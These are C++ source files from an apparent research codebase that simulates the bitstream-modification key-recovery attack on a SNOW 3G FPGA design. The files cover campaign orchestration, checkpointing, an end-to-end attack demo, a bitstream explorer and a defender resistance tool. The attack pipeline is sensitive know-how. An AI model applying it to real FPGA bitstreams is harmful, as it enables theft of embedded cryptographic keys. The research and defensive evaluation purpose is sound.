  if (const JsonValue* f = v.find("fleet_noise_factors")) {
    if (!f->is_array()) return std::nullopt;
    for (const JsonValue& item : f->items) {
      const double factor = item.as_double(-1);
      if (factor < 0) return std::nullopt;
      o.fleet_noise_factors.push_back(factor);
    }
  }
  if (const JsonValue* f = v.find("deadline_seconds")) {
    o.deadline_seconds = f->as_double();
    if (o.deadline_seconds <= 0) return std::nullopt;  // 400 at the service
  }
  if (const JsonValue* noise = v.find("noise")) {
    if (noise->kind == JsonValue::Kind::kString) {
      const auto profile = faultsim::NoiseProfile::named(noise->as_string());
      if (!profile) return std::nullopt;
      o.noise = *profile;
    } else if (noise->is_object()) {
      auto get_rate = [&](const char* name, double& out) {
        if (const JsonValue* f = noise->find(name)) out = f->as_double();
      };
      o.noise = faultsim::NoiseProfile::none();
      get_rate("transient_reject", o.noise.transient_reject);
      get_rate("bit_flip", o.noise.bit_flip);
      get_rate("truncate", o.noise.truncate);
      get_rate("timeout", o.noise.timeout);
      get_rate("death", o.noise.death);
      if (const JsonValue* f = noise->find("seed")) o.noise.seed = f->as_u64(o.noise.seed);
    } else {
      return std::nullopt;
    }
  }
  return o;
}

std::string checkpoint_to_json(const CampaignOptions& options,
                               const std::vector<TrialOutcome>& completed) {
  JsonWriter w;
  w.begin_object();
  w.field("version", kCheckpointVersion);
  w.field("options_signature", options_signature(options));
  w.field("trials_total", options.trials);
  w.key("completed").begin_array();
  for (const TrialOutcome& t : completed) write_trial(w, t);
  w.end_array();
  w.end_object();
  return w.str();
}

std::optional<CampaignCheckpoint> checkpoint_from_json(std::string_view json) {
  const std::optional<JsonValue> doc = parse_json(json);
  if (!doc || !doc->is_object()) return std::nullopt;
  const JsonValue* version = doc->find("version");
  const JsonValue* signature = doc->find("options_signature");
  const JsonValue* completed = doc->find("completed");
  if (version == nullptr || version->as_u64() != kCheckpointVersion || signature == nullptr ||
      completed == nullptr || !completed->is_array()) {
    return std::nullopt;
  }
  CampaignCheckpoint cp;
  cp.signature = signature->as_u64();
  for (const JsonValue& item : completed->items) {
    auto t = trial_from_json(item);
    if (!t) return std::nullopt;
    cp.completed.push_back(std::move(*t));
  }
  return cp;
}

bool save_checkpoint(const std::string& path, const CampaignOptions& options,
                     const std::vector<TrialOutcome>& completed) {
  // write_file_atomic is temp + flush + fsync + rename: a daemon killed
  // mid-save leaves either the previous checkpoint or the new one, never a
  // truncated file (tests/test_service.cpp injects exactly that crash).
  return write_file_atomic(path, checkpoint_to_json(options, completed));
}

std::optional<CampaignCheckpoint> load_checkpoint(const std::string& path,
                                                  const CampaignOptions& options) {
  const auto data = read_file(path);
  if (!data) return std::nullopt;
  auto cp = checkpoint_from_json(*data);
  if (!cp || cp->signature != options_signature(options)) return std::nullopt;
  return cp;
}

}  // namespace sbm::campaign
