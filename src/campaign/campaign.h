// Batch attack campaigns: fan out M independent attack trials across the
// worker pool and aggregate a machine-readable report.
//
// Each trial builds its own victim — randomized session key, host IV and
// placement seed, optionally the Section VII protected (trivial-cut) variant
// — and runs the full Section VI pipeline against it, the way related work
// (Puschner et al., "Patching FPGAs"; Ender et al., "The Unpatchable
// Silicon") evaluates bitstream attacks statistically over many targets
// rather than on one board.
//
// Determinism contract: every field of the report except wall-clock timings
// and physical-layer retry accounting is a pure function of CampaignOptions
// — trials derive their randomness from (options.seed, trial index) only,
// noise streams from (noise.seed, trial seed, physical run index) only, and
// the runtime layer guarantees scan results are independent of the thread
// count.  fingerprint() digests exactly the timing-free logical fields, so
// `fingerprint(threads=1) == fingerprint(threads=N)` is the subsystem's
// contract — including across checkpoint/resume — and is enforced by
// tests/test_campaign.cpp.
//
// Fault tolerance (DESIGN.md §4f): a non-quiet `noise` profile wraps every
// trial's device in a FaultyOracle and upgrades the pipeline to voting
// probes; `checkpoint_path` persists completed trials after each finish so a
// killed campaign resumes without re-spending them.
#pragma once

#include <string>
#include <utility>
#include <vector>

#include "common/bits.h"
#include "faultsim/noise.h"

namespace sbm {
class JsonWriter;
}

namespace sbm::runtime {
class ThreadPool;
}

namespace sbm::campaign {

struct CampaignOptions {
  /// Independent attack trials to run.
  size_t trials = 8;
  /// Worker threads (total, including the driver); 0 = hardware concurrency.
  unsigned threads = 0;
  /// Master seed; trial i draws all its randomness from (seed, i).
  u64 seed = 0x5eedc0de;
  /// Every k-th trial (i % k == k - 1) builds the Section VII protected
  /// variant, whose expected outcome is that the attack *fails*.  0 = never.
  size_t protected_every = 0;
  /// What each trial runs.  "attack" = the Section VI key-recovery pipeline.
  /// "crack" = the oracle-guided countermeasure cracker (DESIGN.md §4l):
  /// every trial builds a *protected* victim and disambiguates its decoy
  /// hypothesis set adaptively; success means a verdict, and the trial is
  /// `expected` when the verdict matches the variant (unique identification
  /// on the plain countermeasure, a proof of ambiguity on the
  /// response-equalized one).  Unknown kinds are rejected at job validation
  /// (the service answers 400).
  std::string kind = "attack";
  /// Crack campaigns only: build the response-equalized countermeasure
  /// (three XOR-recombined copies per target bit) instead of the plain
  /// Section VII decoy population.  Ignored for kind == "attack".
  bool equalized = false;
  /// Keystream words per probe (the paper's w).
  size_t words = 16;
  /// Per-trial probe cache (identical patched bitstreams skip the simulated
  /// reconfiguration; hits reported separately from true oracle runs).
  bool use_probe_cache = true;
  /// Hand each trial's FINDLUT scans the shared pool too (candidate and
  /// byte-range sharding inside a trial, on top of trial-level fan-out).
  bool scan_parallel = true;
  /// Lanes per bit-sliced oracle batch (1..512, clamped at runtime to the
  /// active SIMD backend's width — 64 scalar, 256 AVX2, 512 AVX-512).  1
  /// selects the scalar reference path; any width and any backend yield
  /// bit-identical trial outcomes (the fingerprint() contract extends over
  /// this knob).
  unsigned batch_width = 512;
  /// Unreliable-hardware model: a non-quiet profile wraps each trial's
  /// device in a faultsim::FaultyOracle (noise stream re-seeded per trial)
  /// and the pipeline probes with runtime::RetryPolicy::voting(3).  The
  /// logical metrics — and therefore fingerprint() — are unchanged from the
  /// clean run by the accounting contract.
  faultsim::NoiseProfile noise{};
  /// Probe-confirmation controller (DESIGN.md §4j): kStatic = the classic
  /// r-repetition vote; kAdaptive = the sequential test, seeded from `noise`
  /// per trial (same logical outcome and fingerprint, roughly half the
  /// physical runs on a mildly noisy board).
  runtime::ControllerKind controller = runtime::ControllerKind::kStatic;
  /// Board pool per trial (DESIGN.md §4k).  1 = the classic single board
  /// (a FaultyOracle when `noise` is non-quiet); >= 2 wraps every trial's
  /// device in a fleet::FleetOracle of this many boards, each with its own
  /// (per-trial re-seeded) noise stream, so a board death migrates the
  /// in-flight probes to a spare instead of aborting the trial.  The
  /// logical metrics and fingerprint() are unchanged by the fleet size.
  unsigned fleet_size = 1;
  /// Per-board fault-rate multipliers on `noise` (board i uses entry i;
  /// missing entries default to 1.0).  Only meaningful with fleet_size >= 2.
  std::vector<double> fleet_noise_factors;
  /// Hedge straggler chunks on a second healthy board (fleet runs only).
  bool fleet_hedge = false;
  /// Wall-clock budget for the whole campaign in seconds; 0 = unlimited.
  /// Enforced by the service layer (the job is cancelled with a
  /// `deadline_exceeded` terminal status once exceeded); run_campaign
  /// itself ignores it.  Excluded from the checkpoint options signature,
  /// like `threads` — it changes when a run stops, never what it computes.
  double deadline_seconds = 0;
  /// When non-empty, every completed trial is appended to this JSON file
  /// (atomically rewritten under a lock), so a killed campaign can resume.
  std::string checkpoint_path;
  /// Load `checkpoint_path` first and skip trials it already covers.  The
  /// checkpoint's options signature must match, else it is ignored.
  bool resume = false;
  bool verbose = false;
};

struct TrialOutcome {
  size_t index = 0;
  u64 trial_seed = 0;
  bool protected_variant = false;
  bool attack_success = false;  // pipeline reported a confirmed key
  bool key_match = false;       // recovered key equals the planted key
  /// Trial behaved as the paper predicts: key recovered on an unprotected
  /// victim, attack defeated on a protected one.
  bool expected = false;
  /// The device was lost mid-attack (irrecoverable fault); the trial carries
  /// whatever the pipeline verified before dying.
  bool partial = false;
  std::string failure;  // pipeline failure reason when !attack_success
  size_t oracle_runs = 0;
  size_t cache_hits = 0;
  size_t probe_calls = 0;
  size_t lut_sites = 0;  // victim fabric size (varies with the placement seed)
  std::vector<std::pair<std::string, size_t>> phase_runs;
  /// Physical-layer accounting under noise (physical_runs = oracle_runs +
  /// retry_runs + vote_runs).  Informational — excluded from fingerprint(),
  /// which digests only the logical outcome.
  size_t physical_runs = 0;
  size_t retry_runs = 0;
  size_t vote_runs = 0;
  /// Fleet-internal physical runs (migration replays + hedge duplicates);
  /// physical_runs = oracle_runs + retry_runs + vote_runs + migration_runs.
  size_t migration_runs = 0;
  size_t corruption_detections = 0;
  size_t transient_rejections = 0;
  /// Crack-kind trials only (kind == "crack"); all-zero for attack trials.
  /// adaptive_probes is the physical configuration count the cracker needed
  /// to reach its verdict — the number the static C(n - 32, 32) bound
  /// (log2_static_bound) claims must be ~2^115.
  bool crack = false;
  bool crack_unique = false;
  bool crack_proven_ambiguous = false;
  size_t crack_candidates = 0;
  size_t adaptive_probes = 0;
  double log2_static_bound = 0;
  double log2_final = 0;
  double wall_seconds = 0;  // informational only — excluded from fingerprint()
};

struct CampaignReport {
  CampaignOptions options;
  std::vector<TrialOutcome> trials;

  size_t unprotected_trials = 0;
  size_t unprotected_successes = 0;
  size_t protected_trials = 0;
  size_t protected_resisted = 0;
  size_t total_oracle_runs = 0;
  size_t total_cache_hits = 0;
  size_t total_probe_calls = 0;
  size_t total_physical_runs = 0;
  size_t total_retry_runs = 0;
  size_t total_vote_runs = 0;
  size_t total_migration_runs = 0;
  size_t total_corruption_detections = 0;
  /// Crack-kind aggregates (zero for attack campaigns).
  size_t crack_trials = 0;
  size_t crack_unique_verdicts = 0;
  size_t crack_ambiguous_verdicts = 0;
  size_t total_adaptive_probes = 0;
  /// Trials answered from the resume checkpoint instead of being re-run.
  size_t resumed_trials = 0;
  /// Trials skipped because the run was cancelled (Orchestrator::Hooks).
  /// Always 0 for run_campaign; not serialized — the report JSON schema is
  /// unchanged and `trials` simply carries only the finished ones.
  size_t cancelled_trials = 0;
  /// Per-phase oracle-run totals summed across trials, in pipeline order.
  std::vector<std::pair<std::string, size_t>> phase_run_totals;
  double wall_seconds = 0;
  unsigned threads_used = 0;
  /// Compiled scan-engine pattern indexes alive after the campaign: the
  /// standard families compile once (pre-warmed before the trial fan-out)
  /// and every trial's FINDLUT phases reuse them.  Informational — excluded
  /// from fingerprint().
  size_t scan_index_cache_entries = 0;

  bool all_expected() const;
  /// Digest of every timing-independent logical field of every trial, in
  /// trial order.  Identical for 1 and N threads, any batch width, and
  /// across checkpoint/resume, by the determinism contract.
  u64 fingerprint() const;
  std::string to_json() const;

  /// Folds one trial's logical totals into the aggregate fields (counts,
  /// total_*, phase_run_totals).  Does not touch `trials` — the orchestrator
  /// calls it per finished trial, and the campaign daemon reuses it to keep
  /// a live per-job aggregate while a run is still in flight.
  void accumulate(const TrialOutcome& t);
  /// Writes the canonical metrics block (DESIGN.md §4g) as one JSON object —
  /// the exact bytes of the "metrics" member of to_json.  The daemon's
  /// status responses stream this same block per job.
  void write_metrics(JsonWriter& w) const;
};

/// Runs one trial (exposed for tests).  `pool` may be null (serial scans).
TrialOutcome run_trial(const CampaignOptions& options, size_t index, runtime::ThreadPool* pool);

/// Runs the whole campaign on an internally-owned pool of options.threads.
CampaignReport run_campaign(const CampaignOptions& options);

}  // namespace sbm::campaign
