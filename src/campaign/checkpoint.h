// Campaign checkpoint/resume: a JSON file of completed TrialOutcomes plus a
// signature of the outcome-determining options.  run_campaign rewrites it
// after every finished trial; on resume, trials the file already covers are
// taken from it verbatim — the determinism contract makes the resumed
// report's fingerprint identical to an uninterrupted run's.
#pragma once

#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "campaign/campaign.h"

namespace sbm {
class JsonWriter;
struct JsonValue;
}

namespace sbm::campaign {

/// Digest of every CampaignOptions field that determines trial outcomes.
/// Scheduling knobs (threads, scan_parallel, batch_width) are excluded: the
/// determinism contract makes them outcome-invariant, so a campaign may be
/// resumed under a different thread count or batch width.
u64 options_signature(const CampaignOptions& options);

/// Serializes one trial (every field, including the informational ones).
void write_trial(JsonWriter& w, const TrialOutcome& t);
/// Inverse of write_trial; nullopt when required fields are missing.
std::optional<TrialOutcome> trial_from_json(const JsonValue& v);

/// Serializes the outcome-relevant options as one JSON object — the exact
/// bytes of the "options" block in CampaignReport::to_json.  The process-
/// local fields (checkpoint_path, resume, verbose) are not part of it.
void write_options(JsonWriter& w, const CampaignOptions& options);
/// Inverse of write_options; absent fields keep their defaults, so a job
/// submission may specify only the knobs it cares about.  "noise" may be
/// either the object write_options emits or a profile name string
/// ("none" | "mild" | "harsh", optional "@seed" suffix).  nullopt when `v`
/// is not an object or the noise spec is unknown.
std::optional<CampaignOptions> options_from_json(const JsonValue& v);

struct CampaignCheckpoint {
  u64 signature = 0;
  std::vector<TrialOutcome> completed;
};

std::string checkpoint_to_json(const CampaignOptions& options,
                               const std::vector<TrialOutcome>& completed);
std::optional<CampaignCheckpoint> checkpoint_from_json(std::string_view json);

/// Atomically rewrites `path` (write temp + rename).  False on I/O failure.
bool save_checkpoint(const std::string& path, const CampaignOptions& options,
                     const std::vector<TrialOutcome>& completed);
/// Loads `path` and validates its signature against `options`; nullopt when
/// the file is absent, malformed, or belongs to a different campaign.
std::optional<CampaignCheckpoint> load_checkpoint(const std::string& path,
                                                  const CampaignOptions& options);

}  // namespace sbm::campaign
