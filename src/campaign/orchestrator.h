// Reusable campaign orchestration: the trial fan-out, checkpoint/resume and
// aggregation machinery behind run_campaign, factored out so both the
// one-shot CLI (examples/campaign.cpp) and the long-running campaign daemon
// (src/service/) drive campaigns through the same code path.
//
// Differences from the bare run_campaign entry point:
//   * an Orchestrator may be constructed over an *external* ThreadPool, so a
//     daemon can share one pool across many concurrent jobs instead of
//     spinning one up per campaign (options.threads is then ignored);
//   * a run is cancellable: Hooks::cancel is polled before each not-yet-run
//     trial, and a cancelled run returns a report carrying only the trials
//     that finished (cancelled_trials counts the ones skipped);
//   * per-trial progress streams through Hooks::on_trial — the daemon uses
//     it to persist job progress and publish live per-job metrics;
//   * the trial body itself is pluggable through Hooks::trial_fn, which is
//     how the service's synthetic calibration jobs (load tests that exercise
//     scheduling and persistence without paying a full attack per trial) run
//     through the identical orchestration/checkpoint path.
//
// The determinism contract of campaign.h is unchanged: for a given
// CampaignOptions, an uncancelled run produces the same fingerprint for any
// pool size, batch width, and across checkpoint/resume.
#pragma once

#include <atomic>
#include <functional>

#include "campaign/campaign.h"

namespace sbm::campaign {

class Orchestrator {
 public:
  /// Replacement trial body; the default is run_trial.  Must obey the same
  /// purity rule: the outcome derives from (options, index) only.
  using TrialFn =
      std::function<TrialOutcome(const CampaignOptions&, size_t index, runtime::ThreadPool*)>;

  struct Hooks {
    /// Polled before each not-yet-run trial; once true, remaining trials are
    /// skipped (in-flight ones finish).  Null = never cancelled.
    const std::atomic<bool>* cancel = nullptr;
    /// Called after each freshly-run trial has been recorded (checkpoint
    /// saved), serialized under the orchestrator's record lock.  `completed`
    /// counts resumed + finished trials so far, `total` is options.trials.
    std::function<void(const TrialOutcome&, size_t completed, size_t total)> on_trial;
    /// Override the trial body (synthetic jobs); empty = run_trial.
    TrialFn trial_fn;
  };

  /// Owns a fresh pool of options.threads for every run (CLI behaviour).
  Orchestrator() = default;
  /// Shares `pool` across runs; options.threads is ignored.  `pool` may be
  /// null (serial) and must outlive the orchestrator.
  explicit Orchestrator(runtime::ThreadPool* pool) : pool_(pool), external_pool_(true) {}

  CampaignReport run(const CampaignOptions& options) const { return run(options, Hooks()); }
  CampaignReport run(const CampaignOptions& options, const Hooks& hooks) const;

 private:
  runtime::ThreadPool* pool_ = nullptr;
  bool external_pool_ = false;
};

}  // namespace sbm::campaign
