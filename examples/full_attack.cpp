// The complete bitstream-modification attack of Section VI, end to end,
// against a victim whose key the attacker never sees.
//
// The attacker's interface is exactly the paper's: raw bitstream bytes and
// the ability to reload the device and read keystream words.  The pipeline
// narrates each phase; at the end the recovered key is checked against the
// planted one (evaluation-only — the attack itself never reads it).
#include <cstdio>

#include "attack/pipeline.h"
#include "common/hex.h"
#include "common/rng.h"
#include "fpga/system.h"

using namespace sbm;

int main(int argc, char** argv) {
  // A session key the victim's manufacturer embedded in the bitstream.
  Rng rng(argc > 1 ? static_cast<u64>(std::atoll(argv[1])) : 0xc0ffee);
  fpga::SystemOptions opt;
  opt.key = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
  const snow3g::Iv iv = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};

  std::printf("victim: SNOW 3G on a simulated 7-series FPGA, key embedded in the bitstream\n");
  const fpga::System sys = fpga::build_system(opt);
  std::printf("bitstream: %zu bytes, %zu LUT sites\n\n", sys.golden.bytes.size(),
              sys.placed.phys.size());

  attack::DeviceOracle oracle(sys, iv);
  attack::PipelineConfig cfg;
  cfg.iv = iv;
  cfg.verbose = true;
  attack::Attack attack(oracle, sys.golden.bytes, cfg);
  const attack::AttackResult res = attack.execute();

  if (!res.success) {
    std::printf("\nATTACK FAILED: %s\n", res.failure.c_str());
    return 1;
  }

  std::printf("\n--- results -------------------------------------------------------\n");
  std::printf("faulty keystream (= LFSR state S^33, cf. Table IV):\n");
  for (size_t t = 0; t < res.faulty_keystream.size(); ++t) {
    std::printf("  z_%-2zu = %s\n", t + 1, hex32(res.faulty_keystream[t]).c_str());
  }
  std::printf("recovered S^0 (cf. Table V):\n");
  for (int i = 0; i < 16; ++i) {
    std::printf("  s%-2d = %s\n", i, hex32(res.recovered_state[static_cast<size_t>(i)]).c_str());
  }
  std::printf("\nrecovered key: %s %s %s %s\n", hex32(res.secrets.key[0]).c_str(),
              hex32(res.secrets.key[1]).c_str(), hex32(res.secrets.key[2]).c_str(),
              hex32(res.secrets.key[3]).c_str());
  std::printf("recovered IV : %s %s %s %s\n", hex32(res.secrets.iv[0]).c_str(),
              hex32(res.secrets.iv[1]).c_str(), hex32(res.secrets.iv[2]).c_str(),
              hex32(res.secrets.iv[3]).c_str());
  std::printf("oracle runs  : %zu (reconfigurations of the board)\n", res.oracle_runs);
  std::printf("key confirmed against the clean device: %s\n",
              res.key_confirmed ? "yes" : "no");
  std::printf("planted key matches: %s\n", res.secrets.key == opt.key ? "YES" : "NO");
  return res.secrets.key == opt.key ? 0 : 1;
}
