// Bitstream explorer — a prjxray-style inspection tool for the 7-series-like
// format this library emits, and the reverse-engineering aid the paper's
// FINDLUT tool grew out of.
//
//   bitstream_explorer            build the demo system and explore it
//   bitstream_explorer <file>     explore a bitstream file from disk
//
// Prints the packet structure (with the real register opcodes), the frame
// geometry, a LUT occupancy census, and the most frequent LUT functions up
// to P equivalence — the "distinct structure" the countermeasure of
// Section VII deliberately destroys.
#include <cstdio>
#include <fstream>
#include <map>
#include <vector>

#include "bitstream/parser.h"
#include "bitstream/patcher.h"
#include "fpga/system.h"
#include "logic/truth_table.h"

using namespace sbm;

namespace {

void explore(std::span<const u8> bytes) {
  std::printf("bitstream: %zu bytes\n", bytes.size());

  // --- packet walk -----------------------------------------------------------
  const size_t words = bytes.size() / 4;
  size_t w = 0;
  while (w < words && bitstream::read_word(bytes, w) != bitstream::kSyncWord) ++w;
  std::printf("sync word 0xAA995566 at byte %zu\n", w * 4);
  const bitstream::ParseResult parsed = bitstream::parse_bitstream(bytes);
  if (!parsed.ok) {
    std::printf("parse error: %s\n", parsed.error.c_str());
    return;
  }
  std::printf("packets parsed OK: idcode=%08x crc_checked=%d desync=%d\n",
              parsed.idcode.value_or(0), parsed.crc_checked, parsed.desynced);
  std::printf("FDRI frame data: %zu bytes (%zu frames of %u bytes) at offset %zu\n",
              parsed.frame_data.size(), parsed.frame_data.size() / bitstream::kFrameBytes,
              bitstream::kFrameBytes, parsed.fdri_byte_offset);

  // --- LUT census --------------------------------------------------------------
  const size_t frames = parsed.frame_data.size() / bitstream::kFrameBytes;
  size_t occupied = 0, empty = 0;
  std::map<u64, int> histogram;  // canonical P-class representative -> count
  for (size_t frame = 0; frame + 3 < frames; frame += 4) {
    for (size_t off = 0; off + 1 < bitstream::kFrameBytes; off += 2) {
      const size_t l = parsed.fdri_byte_offset + frame * bitstream::kFrameBytes + off;
      const u64 init =
          bitstream::read_lut_init(bytes, l, bitstream::kFrameBytes,
                                   bitstream::device_chunk_orders()[0]);
      if (init == 0) {
        ++empty;
        continue;
      }
      ++occupied;
      histogram[logic::p_canonical(logic::TruthTable6(init)).bits()]++;
    }
  }
  std::printf("LUT slots: %zu occupied, %zu empty\n", occupied, empty);

  std::printf("most frequent LUT functions (canonical P-class, SLICEL reading):\n");
  std::vector<std::pair<int, u64>> top;
  for (const auto& [tt, count] : histogram) top.emplace_back(count, tt);
  std::sort(top.rbegin(), top.rend());
  for (size_t i = 0; i < std::min<size_t>(top.size(), 12); ++i) {
    const logic::TruthTable6 f(top[i].second);
    std::printf("  %4d x %s  (support %u)\n", top[i].first, f.to_string().c_str(),
                f.support_size());
  }
  std::printf("distinct P classes: %zu — the richer this histogram, the easier the\n",
              histogram.size());
  std::printf("reverse engineering; Section VII's countermeasure flattens it.\n");
}

}  // namespace

int main(int argc, char** argv) {
  if (argc > 1) {
    std::ifstream in(argv[1], std::ios::binary);
    if (!in) {
      std::fprintf(stderr, "cannot open %s\n", argv[1]);
      return 1;
    }
    std::vector<u8> bytes((std::istreambuf_iterator<char>(in)),
                          std::istreambuf_iterator<char>());
    explore(bytes);
    return 0;
  }
  std::printf("no file given: building the demo SNOW 3G system...\n\n");
  const fpga::System sys = fpga::build_system();
  explore(sys.golden.bytes);
  return 0;
}
