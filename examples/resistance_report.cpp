// Defender tool: evaluate a bitstream's resistance to reverse engineering
// and bitstream modification — the use the paper intends for its FINDLUT
// tool.  Compares the unprotected and protected SNOW 3G builds.
//
//   resistance_report           evaluate both demo variants
//   resistance_report <file>    evaluate a bitstream from disk
#include <cstdio>
#include <fstream>
#include <vector>

#include "attack/resistance.h"
#include "fpga/system.h"

using namespace sbm;

namespace {

void report(const char* label, std::span<const u8> bytes) {
  std::printf("--- %s -------------------------------------------\n", label);
  const attack::ResistanceReport r = attack::evaluate_resistance(bytes);
  std::printf("%s", r.summary().c_str());
  std::printf("top LUT P classes:");
  for (size_t i = 0; i < std::min<size_t>(r.top_classes.size(), 5); ++i) {
    std::printf(" %zux%016llx", r.top_classes[i].first,
                static_cast<unsigned long long>(r.top_classes[i].second));
  }
  std::printf("\n\n");
}

}  // namespace

int main(int argc, char** argv) {
  if (argc > 1) {
    std::ifstream in(argv[1], std::ios::binary);
    if (!in) {
      std::fprintf(stderr, "cannot open %s\n", argv[1]);
      return 1;
    }
    std::vector<u8> bytes((std::istreambuf_iterator<char>(in)),
                          std::istreambuf_iterator<char>());
    report(argv[1], bytes);
    return 0;
  }
  const fpga::System plain = fpga::build_system();
  report("unprotected SNOW 3G", plain.golden.bytes);

  fpga::SystemOptions opt;
  opt.protected_variant = true;
  const fpga::System prot = fpga::build_system(opt);
  report("protected SNOW 3G (Section VII countermeasure)", prot.golden.bytes);
  return 0;
}
