// Load generator for the campaign daemon: simulates a fleet of concurrent
// submitters spread across multiple tenants and reports throughput and
// latency percentiles plus a lost/duplicated-job audit.
//
//   ./campaign_server --store /tmp/jobs --unix /tmp/sbm.sock --workers 2 &
//   ./campaign_load --unix /tmp/sbm.sock --clients 1000 --tenants 4
//
// Each client thread connects, submits its jobs (honouring 429 backpressure
// by sleeping the server's retry_after_ms hint), then polls until every one
// of its jobs reaches a terminal state.  Jobs are synthetic (the service's
// deterministic stand-in trials) so the run measures the daemon — protocol,
// scheduler, job store — not the attack pipeline; pass --attack for real
// trials.  The audit at the end cross-checks every accepted job id against
// the server's list: an id that never terminated is lost, an id accepted
// twice is a duplicate — both are zero on a correct daemon.
#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <mutex>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "common/json.h"
#include "service/client.h"

namespace {

using namespace sbm;
using Clock = std::chrono::steady_clock;

struct Config {
  std::string unix_path;
  bool tcp = false;
  u16 tcp_port = 0;
  size_t clients = 1000;
  size_t tenants = 4;
  size_t jobs_per_client = 1;
  size_t trials = 4;
  u32 synthetic_ms = 0;
  bool attack = false;      // real pipeline trials instead of synthetic
  bool weighted = false;    // tenant k gets WFQ weight k+1
  size_t poll_ms = 50;      // status-poll interval while waiting
  size_t max_retries = 200; // submit attempts per job before giving up
  std::string out_path;     // also write the report JSON here
};

struct ClientResult {
  std::vector<std::string> accepted;          // job ids, in submit order
  std::vector<double> submit_ms;              // per accepted submit
  std::vector<std::pair<std::string, double>> done_ms;  // id -> e2e latency
  size_t rejects = 0;                         // 429/503 responses (retried)
  size_t transport_errors = 0;
  size_t gave_up = 0;                         // submits that hit max_retries
};

double percentile(std::vector<double> v, double p) {
  if (v.empty()) return 0;
  std::sort(v.begin(), v.end());
  const size_t idx = std::min(v.size() - 1, static_cast<size_t>(p * (v.size() - 1) + 0.5));
  return v[idx];
}

int usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s (--unix PATH | --tcp PORT) [options]\n"
               "\n"
               "  --clients N        concurrent submitter threads (default 1000)\n"
               "  --tenants K        tenants, clients round-robin over them (default 4)\n"
               "  --jobs N           jobs per client (default 1)\n"
               "  --trials N         trials per job (default 4)\n"
               "  --synthetic-ms N   per-trial sleep, models slow boards (default 0)\n"
               "  --attack           submit real attack jobs instead of synthetic\n"
               "  --weighted         tenant k submits with WFQ weight k+1\n"
               "  --poll-ms N        completion poll interval (default 50)\n"
               "  --out FILE         also write the report JSON to FILE\n",
               argv0);
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  Config cfg;
  bool endpoint_set = false;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "%s needs a value\n", arg.c_str());
        std::exit(2);
      }
      return argv[++i];
    };
    if (arg == "--unix") {
      cfg.unix_path = next();
      endpoint_set = true;
    } else if (arg == "--tcp") {
      cfg.tcp = true;
      cfg.tcp_port = static_cast<u16>(std::strtoul(next(), nullptr, 10));
      endpoint_set = true;
    } else if (arg == "--clients") {
      cfg.clients = std::strtoul(next(), nullptr, 10);
    } else if (arg == "--tenants") {
      cfg.tenants = std::max<size_t>(1, std::strtoul(next(), nullptr, 10));
    } else if (arg == "--jobs") {
      cfg.jobs_per_client = std::strtoul(next(), nullptr, 10);
    } else if (arg == "--trials") {
      cfg.trials = std::max<size_t>(1, std::strtoul(next(), nullptr, 10));
    } else if (arg == "--synthetic-ms") {
      cfg.synthetic_ms = static_cast<u32>(std::strtoul(next(), nullptr, 10));
    } else if (arg == "--attack") {
      cfg.attack = true;
    } else if (arg == "--weighted") {
      cfg.weighted = true;
    } else if (arg == "--poll-ms") {
      cfg.poll_ms = std::max<size_t>(1, std::strtoul(next(), nullptr, 10));
    } else if (arg == "--out") {
      cfg.out_path = next();
    } else {
      return usage(argv[0]);
    }
  }
  if (!endpoint_set) return usage(argv[0]);

  auto connect = [&cfg](service::Client& client) {
    return cfg.tcp ? client.connect_tcp(cfg.tcp_port) : client.connect_unix(cfg.unix_path);
  };

  std::vector<ClientResult> results(cfg.clients);
  std::vector<std::thread> threads;
  threads.reserve(cfg.clients);
  std::atomic<size_t> started{0};

  const auto t0 = Clock::now();
  for (size_t c = 0; c < cfg.clients; ++c) {
    threads.emplace_back([&, c] {
      ClientResult& r = results[c];
      service::Client client;
      if (!connect(client)) {
        ++r.transport_errors;
        return;
      }
      started.fetch_add(1);

      service::JobSpec spec;
      spec.tenant = "tenant-" + std::to_string(c % cfg.tenants);
      if (cfg.weighted) spec.weight = static_cast<double>(c % cfg.tenants + 1);
      spec.mode = cfg.attack ? service::JobMode::kAttack : service::JobMode::kSynthetic;
      spec.synthetic_trial_ms = cfg.synthetic_ms;
      spec.options.trials = cfg.trials;

      for (size_t j = 0; j < cfg.jobs_per_client; ++j) {
        spec.options.seed = 0x10adc0de ^ (c * 1000003ull + j);
        bool accepted = false;
        for (size_t attempt = 0; attempt < cfg.max_retries; ++attempt) {
          int code = 0;
          size_t retry_after_ms = 0;
          const auto s0 = Clock::now();
          const auto id = client.submit(spec, &code, nullptr, &retry_after_ms);
          const double ms =
              std::chrono::duration<double, std::milli>(Clock::now() - s0).count();
          if (id) {
            r.accepted.push_back(*id);
            r.submit_ms.push_back(ms);
            accepted = true;
            break;
          }
          if (code == 429 || code == 503) {
            // Honest backoff: sleep what the server asked for (capped).
            ++r.rejects;
            std::this_thread::sleep_for(
                std::chrono::milliseconds(std::min<size_t>(std::max<size_t>(retry_after_ms, 1), 2000)));
            continue;
          }
          ++r.transport_errors;
          if (!client.connected() && !connect(client)) return;
        }
        if (!accepted) ++r.gave_up;
      }

      for (const std::string& id : r.accepted) {
        const auto w0 = Clock::now();
        if (client.wait_done(id, cfg.poll_ms)) {
          r.done_ms.emplace_back(
              id, std::chrono::duration<double, std::milli>(Clock::now() - w0).count());
        } else {
          ++r.transport_errors;
          if (!connect(client)) return;
        }
      }
    });
  }
  for (std::thread& t : threads) t.join();
  const double wall_s = std::chrono::duration<double>(Clock::now() - t0).count();

  // Audit: every accepted id must be unique, and must show up as done on
  // the server (terminal via our own wait plus the server's list view).
  std::set<std::string> unique_ids;
  size_t duplicates = 0;
  size_t accepted = 0;
  size_t completed_seen = 0;
  size_t rejects = 0;
  size_t transport_errors = 0;
  size_t gave_up = 0;
  std::vector<double> submit_ms;
  std::vector<double> e2e_ms;
  std::set<std::string> done_ids;
  for (const ClientResult& r : results) {
    accepted += r.accepted.size();
    rejects += r.rejects;
    transport_errors += r.transport_errors;
    gave_up += r.gave_up;
